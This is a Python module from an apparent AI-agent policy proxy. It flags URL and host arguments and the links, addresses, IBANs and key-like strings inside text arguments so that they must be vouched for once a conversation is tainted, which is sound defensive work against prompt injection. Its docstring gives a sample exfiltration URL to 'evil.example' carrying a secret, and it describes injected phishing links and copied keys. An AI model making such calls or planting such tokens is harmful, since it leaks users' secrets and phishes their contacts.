"""Sinks beyond side effects: egress arguments and free-text arguments.

Egress: a URL or host a tool will contact carries data out whatever the tool's scope (a `read`
fetch of `https://evil.example/c?d=<secret>` is an exfiltration), so once the conversation is
tainted its value must be vouched for like a sensitive argument. Declared per tool
(`egress_args`); undeclared, every argument named like a URL or host and every URL-shaped value.

Free text: a side-effecting tool's text arguments (`body`, `message`, `title`, ...; declared per
tool with `text_args`) may say anything, but the links, e-mail addresses, IBANs and secret-like
strings inside them are what an attacker plants (a phishing link in a mail to a real colleague, a
key copied out of a document); each must be vouched for on its own. Words are never checked.
"""

from __future__ import annotations

import re

from proxy.policy import canon
from proxy.policy.canon import Token
from proxy.policy.spec import ToolRule

EGRESS_NAMES = re.compile(r"url|uri|href|link|host|hostname|domain|endpoint|website|webhook|\w+_(?:url|uri|host)")
TEXT_NAMES = frozenset({"body", "message", "text", "title", "subject", "description", "content", "comment",
                        "note", "notes", "summary", "caption", "reply"})
# A secret-like word: 20+ characters mixing letters and digits (API keys, tokens, reset codes).
_SECRET = re.compile(r"(?=[^\s]*\d)(?=[^\s]*[a-z])[\w\-]{20,}", re.IGNORECASE)


def egress_values(args: list[tuple[str, str]], rule: ToolRule) -> list[tuple[str, str]]:
    """(arg, value) pairs that name where the call sends data."""
    if rule.egress_args is not None:
        return [(k, v) for k, v in args if k in rule.egress_args]
    text = _text_names(rule)  # their links are judged as planted tokens instead
    return [(k, v) for k, v in args if EGRESS_NAMES.fullmatch(k.lower())
            or (k not in text and any(t.startswith("url:") for t in canon.canonical(v)))]


def _text_names(rule: ToolRule) -> frozenset[str]:
    return frozenset(rule.text_args) if rule.text_args is not None else TEXT_NAMES


def planted_tokens(args: list[tuple[str, str]], rule: ToolRule) -> list[tuple[str, Token, str]]:
    """(arg, token, shown text) for every link, address, IBAN or secret-like word in text arguments."""
    names = _text_names(rule)
    out = []
    for k, v in args:
        if k not in names:
            continue
        for tok in canon.canonical(v):
            if tok.startswith(canon.COMPOUND) or (tok.startswith("word:") and _SECRET.fullmatch(tok[5:])):
                out.append((k, tok, tok.split(":", 1)[1]))
    return out
